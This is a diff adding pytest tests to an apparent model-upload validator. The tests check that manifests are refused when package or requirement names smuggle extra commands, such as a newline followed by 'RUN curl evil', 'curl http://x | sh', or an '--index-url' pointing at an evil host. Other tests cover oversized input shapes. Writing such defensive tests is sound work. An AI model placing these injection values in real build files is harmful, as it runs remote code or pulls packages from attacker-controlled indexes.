@@ -706,3 +706,44 @@ def test_package_error_codes():
     assert (err.status, err.code, err.detail, str(err)) == (413, "payload_too_large", "too big", "too big")
     with pytest.raises(ValueError):
         PackageError("x", status=500)
+
+
+# --------------------------------------------------------------------------
+# Names that reach a Dockerfile or pip, and shapes, are checked at upload
+# --------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "manifest_tail, match",
+    [
+        (b'system_packages: ["jq\\n RUN curl evil"]\n', "modelbay.yaml: system_packages[0]: is not a Debian package name"),
+        (b'system_packages: ["jq\\n"]\n', "modelbay.yaml: system_packages[0]: is not a Debian package name"),
+        (b'system_packages: ["jq curl"]\n', "modelbay.yaml: system_packages[0]: "),
+        (b'requirements: ["numpy\\n--index-url http://x"]\n', "modelbay.yaml: requirements[0]: must be a single line"),
+        (b'requirements: ["numpy --index-url http://x"]\n', "modelbay.yaml: requirements[0]: not a valid requirement"),
+        (b'requirements: ["numpy; curl http://x | sh"]\n', "modelbay.yaml: requirements[0]: not a valid requirement"),
+    ],
+)
+def test_python_package_with_injected_names_is_refused(dirs, manifest_tail, match):
+    manifest = b"framework: python\nentrypoint: predictor:Model\n" + manifest_tail
+    data = make_zip({"modelbay.yaml": manifest, "predictor.py": PREDICTOR})
+    refused(dirs, "p.zip", data, match=match)
+
+
+def test_requirements_file_with_an_option_line_is_refused(dirs):
+    manifest = b"framework: python\nentrypoint: predictor:Model\nrequirements: requirements.txt\n"
+    reqs = b"numpy\nscipy --index-url http://evil.invalid/simple\n"
+    data = make_zip({"modelbay.yaml": manifest, "predictor.py": PREDICTOR, "requirements.txt": reqs})
+    refused(dirs, "p.zip", data, match="modelbay.yaml: requirements (requirements.txt line 2): not a valid")
+
+
+def test_huge_input_shape_is_refused(dirs, onnx_bytes):
+    manifest = ONNX_MANIFEST + b"inputs: [{name: x, datatype: FP32, shape: [-1, 100000, 100000]}]\n"
+    data = make_zip({"modelbay.yaml": manifest, "model.onnx": onnx_bytes})
+    refused(dirs, "p.zip", data, match="modelbay.yaml: inputs[0].shape[1]: must be at most 65536")
+
+
+def test_input_shape_with_too_many_values_is_refused(dirs, onnx_bytes):
+    manifest = ONNX_MANIFEST + b"inputs: [{name: x, datatype: FP32, shape: [-1, 10000, 10000]}]\n"
+    data = make_zip({"modelbay.yaml": manifest, "model.onnx": onnx_bytes})
+    refused(dirs, "p.zip", data, match="modelbay.yaml: inputs[0].shape: holds 100000000 values")
